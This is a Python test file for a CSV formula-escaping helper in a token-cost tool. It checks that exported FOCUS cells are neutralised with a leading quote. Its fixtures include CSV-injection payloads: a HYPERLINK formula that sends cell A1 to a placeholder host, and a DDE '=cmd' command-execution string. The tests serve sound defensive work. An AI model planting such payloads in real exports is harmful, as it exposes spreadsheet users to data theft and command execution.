"""CSV cells a spreadsheet would run as formulas (``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab)
are written as text (a leading ``'``) in the FOCUS file, as in the chargeback CSV; numbers,
negative ones included, stay numbers (tokenecon/csvsafe.py)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from conftest import FIXTURES, run_cli

from tokenecon.csvsafe import FORMULA_STARTS, safe_cell

USAGE = (
    "timestamp,provider,model,input_tokens,output_tokens,reported_cost,project,session_id,"
    "region,request_id\n"
    '2026-10-01T09:00:00Z,openai,gpt-4.1,1000,5,,"=HYPERLINK(""http://x/?""&A1,""go"")",'
    "+1+1,@SUM(1),r1\n"
    "2026-10-01T09:00:00Z,=cmd|' /C calc'!A0,gpt-4.1,1000,5,,-2+3,\tx,eu,r2\n"
)


@pytest.mark.parametrize(
    ("text", "cell"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("legal", "legal"), ("", ""), ("a=b", "a=b")],
)  # fmt: skip
def test_safe_cell(text: str, cell: str) -> None:
    assert safe_cell(text) == cell


def test_focus_text_cells_are_not_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
    usage = tmp_path / "usage.csv"
    usage.write_text(USAGE)
    out = tmp_path / "focus.csv"
    result = run_cli("convert", str(usage), "--focus", "-o", str(out), "--prices",
                     str(FIXTURES / "book.yaml"), "--no-default-prices")  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(newline="")))
    assert rows
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
    by_session = {r["x_SessionId"]: r for r in rows}
    first, second = by_session["'+1+1"], by_session["'\tx"]
    assert first["SubAccountId"] == '\'=HYPERLINK("http://x/?"&A1,"go")'
    assert first["RegionId"] == "'@SUM(1)"
    assert second["ServiceProviderName"] == "'=cmd|' /C calc'!A0"
    assert second["ProviderName"] == second["ServiceName"] == "'=cmd|' /C calc'!A0"
    assert second["SubAccountId"] == "'-2+3"
    numbers = ("ConsumedQuantity", "PricingQuantity", "ListUnitPrice", "ListCost", "BilledCost",
               "EffectiveCost", "x_ReportedCost")  # fmt: skip
    assert not any(r[c].startswith("'") for r in rows for c in numbers)
    # the JSON of the tags starts with `{`: it is left as it is, its values included
    assert first["Tags"] == '{"project":"=HYPERLINK(\\"http://x/?\\"&A1,\\"go\\")"}'
